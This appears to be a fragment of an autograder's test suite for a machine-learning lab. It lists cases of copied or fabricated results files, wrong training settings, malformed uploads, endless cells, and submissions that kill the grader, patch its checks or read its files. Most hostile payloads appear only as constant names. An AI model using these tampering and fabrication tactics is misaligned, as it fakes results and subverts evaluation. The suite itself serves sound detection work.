            "(3 of 8 honest random-init runs over seeds had such ties)",
            [results(tied_by_rounding("scratch"))],
        ),
    ],
    "another student's results file": [
        # Another student's results file handed in, edited to hide it (tools/copies.py): every check of a run
        # accepts it (full points); the TA report flags it, naming its original (tests/test_review.py). The
        # original here is the reference student's run.
        Case("copy_as_it_is", "another student's results file as it is", [results(lambda r: None)]),
        Case(
            "copy_flipped_1pct",
            "another student's results file, 1% of each run's predictions changed consistently",
            [results(lambda r: r.update(copies.flipped(r, 0.01, gold_labels())))],
        ),
        Case(
            "copy_flipped_3pct",
            "another student's results file, 3% of each run's predictions changed consistently",
            [results(lambda r: r.update(copies.flipped(r, 0.03, gold_labels())))],
        ),
        Case(
            "copy_flipped_10pct",
            "another student's results file, 10% of each run's predictions changed consistently",
            [results(lambda r: r.update(copies.flipped(r, 0.10, gold_labels())))],
        ),
        Case(
            "copy_rescored",
            "another student's results file, every score moved a little, no prediction changed",
            [results(lambda r: r.update(copies.rescored(r, gold_labels())))],
        ),
        Case(
            "wrong_random_init_beats_fine_tuned",
            "a random-init run 7 points above the fine-tuned one, both in their ranges",
            [results(scores_at("ft", 0.46)), results(scores_at("scratch", 0.53))],
            scores={"q7_scratch_results": 2},
            message="beyond what the training seed alone moves them",
        ),
        Case(
            "wrong_args_seed_differs",
            "the notebook's args train with another seed than the submitted run's",
            [sub("    seed=TRAIN_SEED,", "    seed=TRAIN_SEED + 1,")],
            scores={"q4_setup": 3},
            message="pass seed=TRAIN_SEED",
            before_training=True,
        ),
        Case(
            "wrong_runs_with_different_seeds",
            "the random-init run trained with another seed than the fine-tuning run",
            [results(lambda r: r["scratch_settings"].update(seed=r["scratch_settings"]["seed"] + 1))],
            scores={"q7_scratch_results": 2},
            message="both runs train with your training seed",
        ),
        Case(
            "wrong_seed_edited_in_results",
            "the fine-tuning run's seed edited in the results file only",
            [results(lambda r: r["ft_settings"].update(seed=1234))],
            scores={"q7_scratch_results": 2},
            message="the fine-tuned model with seed 1234",
        ),
    ],
    "results files that do not add up": [
        # A results file is evidence of one real training run of the lab: what it records must add up.
        Case(
            "wrong_log_disagrees_with_predictions",
            "the last epoch's eval_accuracy is 5 points above what the predictions score",
            [results(lambda r: last_eval(r).update(eval_accuracy=last_eval(r)["eval_accuracy"] + 0.05))],
            scores={"q5_results": 0},
            message="does not add up",
            flag="rejected: does not add up",
        ),
        Case(
            "wrong_predictions_from_labels",
            "predictions written from the true labels, not by the model",
            [results(lambda r: predictions_from_labels(r, consistent=False))],
            scores={"q5_results": 0},
            message="not the class with the highest score",
        ),
        Case(
            "wrong_fabricated_consistent_accuracy",
            "predictions, scores and the log's accuracy made up to agree",
            [results(lambda r: predictions_from_labels(r, consistent=True))],
            scores={"q5_results": 1},
            message="the loss of its ft_logits",
            flag="rejected: does not add up",
        ),
        Case(
            "wrong_log_of_a_longer_run",
            "a training log of twice as many steps as the lab's sizes make",
            [results(scale_log_steps)],
            scores={"q5_results": 0},
            message="are 250 steps",
        ),
        Case(
            "wrong_training_not_finished",
            "the log has no end-of-training entry (training was interrupted)",
            [results(lambda r: r.update(ft_log_history=[e for e in r["ft_log_history"] if "train_runtime" not in e]))],
            scores={"q5_results": 0},
            message="training did not finish",
        ),
        Case(
            "wrong_trained_with_other_settings",
            "the run was trained with weight decay 0.1 (args changed back afterwards)",
            [results(lambda r: r["ft_settings"].update(weight_decay=0.1))],
            scores={"q5_results": 3},
            message="weight_decay=0.1",
        ),
        Case(
            "wrong_acc_ft_string",
            "acc_ft saved as a string",
            [results(lambda r: r.update(acc_ft=str(r["acc_ft"])))],
            scores={"q5_results": 2},
            message="is not a number",
        ),
    ],
    "answers (one wrong setting or step each)": [
        # Wrong in one way each: points lost on the question it breaks, with a message naming the fault.
        Case(
            "wrong_vectorizer_fit_on_test",
            "the vectorizer is fit on the test texts",
            [
                sub(
                    "X_train = tfidf.fit_transform(train_texts)\nX_test = tfidf.transform(test_texts)",
                    "tfidf.fit(test_texts)\nX_train = tfidf.transform(train_texts)\nX_test = tfidf.transform(test_texts)",
                )
            ],
            scores={"q2_baseline": 2},
            message="fit it on train_texts only",
        ),
        Case(
            "wrong_vectorizer_fit_on_train_and_test",
            "the vectorizer is fit on train and test texts together",
            [
                sub(
                    "X_train = tfidf.fit_transform(train_texts)",
                    "tfidf.fit(train_texts + test_texts)\nX_train = tfidf.transform(train_texts)",
                )
            ],
            scores={"q2_baseline": 2},
            message="fit it on train_texts only",
        ),
        Case(
            "wrong_subset_seed",
            "the splits are shuffled with seed 0",
            [
                sub('raw["train"].shuffle(seed=SEED)', 'raw["train"].shuffle(seed=0)'),
                sub('raw["test"].shuffle(seed=SEED)', 'raw["test"].shuffle(seed=0)'),
            ],
            scores={"q1_data": 1},
            message="shuffle the train split with seed=SEED",
        ),
        Case(
            "wrong_subset_size",
            "the training subset keeps half the rows",
            [sub("select(range(TRAIN_SIZE))", "select(range(TRAIN_SIZE // 2))")],
            scores={"q1_data": 0, "q2_baseline": 2},
            message="expected 2000",
            before_training=True,
        ),
        Case(
            "wrong_labels_shuffled_separately",
            "the training labels come from a second shuffle",
            [
                sub(
                    'list(train_subset["label"])',
                    'list(raw["train"].shuffle(seed=SEED + 1).select(range(TRAIN_SIZE))["label"])',
                )
            ],
            scores={"q1_data": 1, "q2_baseline": 2},
            message="do not line up",
        ),
        Case(
            "wrong_acc_bow_hardcoded",
            "acc_bow typed in instead of computed",
            [sub("acc_bow = accuracy_score(test_labels, bow_preds)", "acc_bow = 0.5")],
            scores={"q2_baseline": 2},
            message="compute acc_bow = accuracy_score",
        ),
        Case(
            "wrong_random_init",
            "the model is built from its config: random weights, not the checkpoint's",
            [
                sub(
                    "model_ft = AutoModelForSequenceClassification.from_pretrained(CHECKPOINT, num_labels=num_labels)",
                    "from transformers import AutoConfig\n"
                    "model_ft = AutoModelForSequenceClassification.from_config(AutoConfig.from_pretrained(CHECKPOINT, num_labels=num_labels))",
                )
            ],
            scores={"q4_setup": 3},
            message="random init",
        ),
        Case(
            "wrong_num_labels_2",
            "the classification head has 2 outputs",
            [
                sub(
                    "model_ft = AutoModelForSequenceClassification.from_pretrained(CHECKPOINT, num_labels=num_labels)",
                    "model_ft = AutoModelForSequenceClassification.from_pretrained(CHECKPOINT, num_labels=2)",
                )
            ],
            scores={"q4_setup": 2},
            message="num_labels",
            before_training=True,
        ),
        Case(
            "wrong_learning_rate",
            "learning rate 5e-5",
            [sub("learning_rate=2e-5", "learning_rate=5e-5")],
            scores={"q4_setup": 3},
            message="learning_rate=5e-05 (expected 2e-05)",
            before_training=True,
        ),
        Case(
            "wrong_five_epochs",
            "5 epochs",
            [sub("num_train_epochs=2,", "num_train_epochs=5,")],
            scores={"q4_setup": 3},
            message="num_train_epochs=5",
            before_training=True,
        ),
        Case(
            "wrong_no_truncation",
            "tok_fn does not truncate",
            [sub('tokenizer(batch["text"], truncation=True, max_length=MAX_LENGTH)', 'tokenizer(batch["text"])')],
            scores={"q3_tokenize": 2},
            message="must truncate",
            before_training=True,
        ),
        Case(
            "wrong_eval_steps_with_checkpoints",
            "evaluates every 50 steps and saves checkpoints",
            [
                sub(
                    'eval_strategy="epoch",\n    save_strategy="no",',
                    'eval_strategy="steps",\n    eval_steps=50,\n    save_strategy="steps",',
                )
            ],
            scores={"q4_setup": 3},
            message="eval_strategy='steps'",
            before_training=True,
        ),
        Case(
            "wrong_metric_error_rate",
            "compute_metrics returns the error rate under the name accuracy",
            [
                sub(
                    'return {"accuracy": accuracy_score(labels, preds)}',
                    'return {"accuracy": 1 - accuracy_score(labels, preds)}',
                )
            ],
            scores={"q4_setup": 3.5},
            message="compute_metrics gives accuracy 0.250",
            before_training=True,
        ),
        Case(
            "wrong_metric_macro_f1",
            "compute_metrics returns macro-F1 under the name accuracy",
            [
                sub(
                    'return {"accuracy": accuracy_score(labels, preds)}',
                    'from sklearn.metrics import f1_score\n    return {"accuracy": f1_score(labels, preds, average="macro")}',
                )
            ],
            scores={"q4_setup": 3.5},
            message="compute_metrics gives accuracy",
            before_training=True,
        ),
        Case(
            "wrong_acc_ft_typed_in",
            "acc_ft typed in by hand: the saved predictions say otherwise",
            [results(lambda r: r.update(acc_ft=0.75))],
            scores={"q5_results": 3},
            message="let trainer.predict(tok_test) compute acc_ft",
        ),
        Case(
            "wrong_results_missing",
            "the results file is not in the submission",
            [no_results],
            scores={"q5_results": 0, "q7_scratch_results": 0},
            message="lab5_results.json not found",
        ),
        Case(
            "wrong_predictions_order",
            "the saved predictions and scores are in another order than the test subset",
            [
                results(
                    lambda r: r.update(
                        ft_preds=sorted(r["ft_preds"]),
                        ft_logits=sorted(r["ft_logits"], key=lambda row: row.index(max(row))),
                    )
                )
            ],
            scores={"q5_results": 1},
            message="its predictions score",
        ),
        Case(
            "wrong_quiz_q1",
            "quiz question 1 answered blue",
            [sub('quiz_q1 = "orange"', 'quiz_q1 = "blue"')],
            scores={"q8_quiz": 2},
            message="quiz_q1 is not the expected answer",
        ),
        Case(
            "wrong_quiz_q2",
            "quiz question 2 answered orange",
            [sub('quiz_q2 = "blue"', 'quiz_q2 = "orange"')],
            scores={"q8_quiz": 2},
            message="quiz_q2 is not the expected answer",
        ),
        Case(
            "wrong_quiz_q3",
            "quiz question 3 answered green",
            [sub('quiz_q3 = "orange"', 'quiz_q3 = "green"')],
            scores={"q8_quiz": 2},
            message="quiz_q3 is not the expected answer",
        ),
        Case(
            "wrong_quiz_not_a_color",
            "a quiz answer that is not one of the three colors",
            [sub('quiz_q3 = "orange"', 'quiz_q3 = "fine-tuning"')],
            scores={"q8_quiz": 2},
            message="answer with one of the strings",
        ),
    ],
    "malformed results and uploads that are not a submission": [
        # Bad input: a results file with zeros where due and a readable message, never a crash.
        Case(
            "bad_malformed_json",
            "the notebook file is not JSON",
            [raw_notebook(b'{"cells": [ this is not json')],
            scores=ALL_ZERO,
            message="is not a readable Jupyter notebook",
            status="not gradable",
        ),
        Case(
            "bad_empty_notebook",
            "a notebook without cells",
            [delete_all_cells, no_results],
            scores=ALL_ZERO,
            message="is not defined",
        ),
        Case(
            "bad_cell_raises",
            "the baseline cell raises before it predicts",
            [sub("bow_clf.fit(X_train, train_labels)", "bow_clf.fit(X_train, train_labels[:10])")],
            scores={"q2_baseline": 1},
            message="bow_preds is not defined",
        ),
        Case(
            "bad_answer_cells_deleted",
            "the student deleted every answer cell (the results file is still there)",
            [delete_answer_cells],
            scores={
                "q1_data": 0,
                "q2_baseline": 0,
                "q3_tokenize": 0,
                "q4_setup": 0,
                "q6_scratch_setup": 0,
                "q8_quiz": 0,
            },
            message="is not defined",
        ),
        Case(
            "bad_other_assignment",
            "a notebook of another assignment",
            [assignment_name("lab3")],
            scores=ALL_ZERO,
            message="this is assignment 'lab5'",
            status="not gradable",
        ),
        Case(
            "bad_zip_without_notebook",
            "a zip that holds only the results file",
            [only_results_in_zip],
            scores=ALL_ZERO,
            message="has no notebook",
            status="not gradable",
        ),
        Case(
            "bad_results_predictions_are_strings",
            "ft_preds holds label names",
            [results(lambda r: r.update(ft_preds=["negative", "neutral", "positive"][:1] * len(r["ft_preds"])))],
            scores={"q5_results": 0},
            message="must be a list of class ids",
        ),
        Case(
            "bad_results_predictions_null",
            "ft_preds is null",
            [results(lambda r: r.update(ft_preds=None))],
            scores={"q5_results": 0},
            message="it has no ft_preds",
        ),
        Case(
            "bad_results_predictions_short",
            "ft_preds and ft_logits lack their last 10 tweets",
            [results(lambda r: r.update(ft_preds=r["ft_preds"][:-10], ft_logits=r["ft_logits"][:-10]))],
            scores={"q5_results": 0},
            message="holds 1990 predictions",
        ),
        Case(
            "bad_results_log_not_a_list",
            "the training log is a string",
            [results(lambda r: r.update(ft_log_history="see the notebook"))],
            scores={"q5_results": 0},
            message="must be the trainer's log",
        ),
        Case(
            "bad_results_not_json",
            "the results file is not JSON",
            [results_text("not json")],
            scores={"q5_results": 0, "q7_scratch_results": 0},
            message="is not a results file of this lab",
        ),
    ],
    "the facts boundary": [
        Case(
            "right_values_of_other_kinds",
            "the subsets as datasets Columns and pandas Series (no list(...)), the baseline's accuracy a NumPy float32",
            [
                sub(
                    'train_texts, train_labels = list(train_subset["text"]), list(train_subset["label"])',
                    'train_texts, train_labels = train_subset["text"], train_subset["label"]',
                ),
                sub(
                    'test_texts, test_labels = list(test_subset["text"]), list(test_subset["label"])',
                    'test_df = test_subset.to_pandas()\ntest_texts, test_labels = test_df["text"], test_df["label"]',
                ),
                sub(
                    "acc_bow = accuracy_score(test_labels, bow_preds)",
                    "acc_bow = np.float32(accuracy_score(test_labels, bow_preds))",
                ),
            ],
        ),
        Case(
            "bad_tok_fn_hangs_on_the_graders_input",
            "tok_fn ignores the timer and loops on the grader's two texts: tok_fn's tests lose, nothing else",
            [sub(TOK_FN_LINE, HANG_ON_THE_GRADERS_INPUT + TOK_FN_LINE)],
            scores={"q3_tokenize": 1},
            message="tok_fn could not be graded: taking its facts did not finish within",
            flag="names whose facts could not be taken: tok_fn",
        ),
        Case(
            "bad_compute_metrics_exits_on_the_graders_input",
            "compute_metrics raises SystemExit on the grader's logits: its tests lose, nothing else",
            [sub(METRIC_LINE, EXIT_ON_THE_GRADERS_INPUT + METRIC_LINE)],
            scores={"q4_setup": 2.5},
            message="SystemExit",
        ),
        Case(
            "wrong_values_that_do_not_cross",
            "a last cell sets num_labels to a 5,001-digit integer and acc_bow to NaN: q1's and q2's checks fail "
            "with what they are, the results questions (which read the upload) keep their points",
            [insert_after(QUIZ_CELL, 'num_labels = 10 ** 5000\nacc_bow = float("nan")')],
            scores={"q1_data": 1, "q2_baseline": 1},
            message="acc_bow = nan is not an accuracy",
        ),
        Case(
            "bad_cell_ends_its_kernel",
            "an extra cell kills its own kernel: the notebook is graded again without it",
            [insert_after(EARLY, END_ITS_KERNEL)],
            message="graded again without it",
            flag="a cell ended the notebook's kernel",
        ),
        Case(
            "bad_cell_holds_the_alarm",
            "an extra cell whose native call holds off the per-cell limit for hours: the kernel is ended from "
            "outside, and the notebook graded again without the cell",
            [insert_after(BASELINE_CELL, HOLD_THE_ALARM)],
            message="did not stop at its time limit",
            flag="a cell was stopped at grading",
            env={"LAB5_CELL_LIMIT_S": "60", "LAB5_GRADING_BUDGET_S": "480"},
        ),
        Case(
            "wrong_cell_writes_the_facts_then_kills_the_grader",
            "a last cell writes the notebook's facts itself, then kills otter and its kernel before the lab's "
            "last cell: graded from the file, and the TA told that the student's side ended abnormally",
            [insert_after(QUIZ_CELL, WRITE_THE_FACTS_THEN_KILL)],
            flag="the student's side ended abnormally",
            sandboxed=True,
            gradescope=True,
        ),
    ],
    "cells that never end": [
        # The endless cases' limits leave room for their other cells on a busy machine (the suite grades them
        # four at a time, beside its other tests); their loops wait instead of spinning, so that they cost
        # the suite wall time in a slot of their own, not a core.
        Case(
            "bad_endless_extra_cell",
            "an extra cell that waits for a file that never comes: stopped, the cells after it graded",
            [
                insert_after(
                    "num_labels = len(label_names)",
                    "import os, time\nwhile not os.path.exists('training_done.flag'):\n    time.sleep(0.5)",
                )
            ],
            message="a cell never finished",
            flag="a cell was stopped",
            env={"LAB5_CELL_LIMIT_S": "120"},
        ),
        Case(
            "bad_endless_baseline_cell",
            "the baseline cell never ends: it loses its points, the rest is graded",
            [
                sub(
                    "tfidf = TfidfVectorizer(",
                    "import time\nwhile True:\n    time.sleep(0.1)\ntfidf = TfidfVectorizer(",
                )
            ],
            scores={"q2_baseline": 0},
            message="a cell never finished",
            flag="a cell was stopped",
            env={"LAB5_CELL_LIMIT_S": "120"},
        ),
        Case(
            "bad_endless_cell_swallows_the_stop",
            "a loop that catches every exception, the per-cell limit's too: the kernel is ended from outside, and "
            "the notebook graded again without the cell",
            [
                insert_after(
                    "num_labels = len(label_names)",
                    "import time\nwhile True:\n    try:\n        time.sleep(1)\n    except BaseException:\n        pass",
                )
            ],
            message="graded again without it",
            flag="a cell was stopped at grading",
            env={"LAB5_CELL_LIMIT_S": "60", "LAB5_GRADING_BUDGET_S": "480"},
        ),
        Case(
            "bad_damaged_zip",
            "an upload that is not a zip file at all",
            [upload_bytes(b"PK\x03\x04 truncated")],
            scores=ALL_ZERO,
            message="damaged",
            status="not gradable",
        ),
    ],
}
CASES = [case for cases in FAULT_CLASSES.values() for case in cases]


# Cases graded together, as one submission: their faults sit in different questions and leave each
# other alone, so that each still gets its expected points (and the others theirs) from one kernel run
# instead of one run each (the suite's time: docs/performance.md). The first edits go first (a case that
# replaces the results file, one that rebuilds the notebook last). Any other case that is not results-only
# is a submission of its own; every results-only case is also graded by the entry point's results grader
# alone (tests/test_corpus.py).
GROUPS = {
    "right_written_differently": [
        "right_unlucky_seed",
        "right_args_from_dict",
        "right_extra_cells_and_prints",
        "right_scratch_args_spelled_out",
        "right_cell_reimports_the_modules",
        "right_pad_to_max_length",
        "right_sklearn_pipeline",
        "right_quiz_case_and_spaces",
        "right_subsets_via_pandas",
        "right_metrics_by_hand",
        "right_scratch_config_of_model_ft",
        "right_tags_stripped",
    ],
    # looking for other submissions is a TA batch's risk (Gradescope grades one per container): not on the image
    "right_upload_extras_and_training_at_grading": [
        "right_upload_with_clutter",
        "right_upload_carries_another_seed_file",
        "right_zip_bomb_beside_the_notebook",
        "right_cell_looks_for_other_submissions",
        "right_scores_tied_by_rounding",
        "right_train_in_setup_cell",
        "right_train_predict_save_elsewhere",
        "right_fresh_notebook",
        "right_values_of_other_kinds",
    ],
    "sandboxed_cells": [
        "wrong_cell_leaves_a_process_that_rewrites_the_results",
        "wrong_args_seed_differs",
        "right_cell_writes_into_the_python_environment",
        "right_cell_writes_outside_its_folder",
        "right_cell_fills_its_temporary_folder",
        "right_cell_forks_until_the_limit",
        "right_cell_opens_sockets",
        "right_cell_reaches_for_the_network",
        "wrong_cell_echoes_the_graders_files",
    ],
    "wrong_in_several_places_1": [
        "wrong_learning_rate",
        "wrong_subset_seed",
        "wrong_no_truncation",
        "wrong_scratch_pretrained",
        "wrong_quiz_q1",
        "wrong_results_written_at_grading",
    ],
    "wrong_in_several_places_2": [
        "wrong_seed_edited_in_results",
        "wrong_five_epochs",
        "wrong_vectorizer_fit_on_test",
        "wrong_scratch_other_learning_rate",
        "wrong_quiz_q2",
        "wrong_results_rewritten_over_bad_upload",
    ],
    "wrong_in_several_places_3": [
        "wrong_runs_with_different_seeds",
        "wrong_random_init",
        "wrong_vectorizer_fit_on_train_and_test",
        "wrong_scratch_shares_args",
        "wrong_quiz_q3",
        "wrong_upload_shadows_the_checks",
    ],
    "wrong_in_several_places_4": [
        "wrong_scratch_results_missing",
        "wrong_num_labels_2",
        "wrong_acc_bow_hardcoded",
        "wrong_quiz_not_a_color",
        "wrong_upload_shadows_modules",
    ],
    "wrong_in_several_places_5": [
        "wrong_scratch_fine_tuned_predictions",
        "wrong_eval_steps_with_checkpoints",
        "wrong_subset_size",
        "wrong_cell_patches_the_checks",
    ],
    "wrong_in_several_places_6": [
        "wrong_scratch_run_is_the_fine_tuned_run",
        "wrong_metric_error_rate",
        "wrong_labels_shuffled_separately",
        "wrong_cell_empties_run_problems",
    ],
    "wrong_in_several_places_7": ["wrong_metric_macro_f1", "bad_cell_raises", "wrong_cell_writes_a_reference_package"],
    "bad_endless_cells": ["bad_endless_extra_cell", "bad_endless_baseline_cell"],
    # names whose facts fight the grader, and two cells that end the kernel of a pass: graded in a third pass
    "facts_that_fight": [
        "bad_tok_fn_hangs_on_the_graders_input",
        "bad_compute_metrics_exits_on_the_graders_input",
        "wrong_values_that_do_not_cross",
        "bad_cell_ends_its_kernel",
        "bad_cell_holds_the_alarm",
    ],
}
